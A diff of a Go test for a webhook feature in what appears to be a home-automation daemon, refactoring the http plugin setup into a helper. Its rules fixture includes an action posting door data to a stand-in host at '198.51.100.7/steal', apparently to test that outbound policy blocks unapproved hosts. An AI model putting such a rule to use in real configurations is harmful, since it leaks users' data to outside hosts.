@@ -31,14 +31,8 @@ func TestWebhook(t *testing.T) {
 		mu.Unlock()
 	}))
 	defer srv.Close()
-	u, _ := url.Parse(srv.URL)
 	dir := t.TempDir()
-	plugins := pluginsDir(t)
-	b, err := os.ReadFile(plugintest.FirstParty(t, "http"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	os.WriteFile(filepath.Join(plugins, "http.wasm"), b, 0o644)
+	plugins, ps := withHTTP(t, srv.URL)
 	writeRules(t, filepath.Join(dir, "rules"), `
 - id: door-notify
   on: door.*.opened
@@ -54,8 +48,6 @@ func TestWebhook(t *testing.T) {
       do: http.request
       with: {url: "http://198.51.100.7/steal", body: {door: "{{door}}"}}
 `)
-	ps := maps.Clone(grants)
-	ps["http"] = PluginConfig{Grant: []abi.Capability{abi.CapHTTP}, HTTP: outbound.Policy{Private: []string{u.Host}}}
 	td := startDaemon(t, Config{RulesDir: filepath.Join(dir, "rules"), PluginsDir: plugins, DataDir: filepath.Join(dir, "data"), Plugins: ps})
 	td.send(t, `{"topic":"door.hall.opened","door":"hall"}`)
 	eventually(t, "the webhook", func() bool { mu.Lock(); defer mu.Unlock(); return len(got) == 1 })
@@ -70,4 +62,21 @@ func TestWebhook(t *testing.T) {
 	if !strings.HasPrefix(got[0], `/notify/hall {"text":"door hall opened"} `) || strings.HasSuffix(got[0], " ") {
 		t.Errorf("the endpoint got %q: want the templated body and an idempotency key", got[0])
 	}
+}
+
+// withHTTP is the plugins directory with the first-party http plugin
+// beside the others, and the grants with it allowed to reach the test
+// server at srvURL (on loopback, allowed by name).
+func withHTTP(t *testing.T, srvURL string) (string, map[string]PluginConfig) {
+	t.Helper()
+	u, _ := url.Parse(srvURL)
+	plugins := pluginsDir(t)
+	b, err := os.ReadFile(plugintest.FirstParty(t, "http"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(plugins, "http.wasm"), b, 0o644)
+	ps := maps.Clone(grants)
+	ps["http"] = PluginConfig{Grant: []abi.Capability{abi.CapHTTP}, HTTP: outbound.Policy{Private: []string{u.Host}}}
+	return plugins, ps
 }
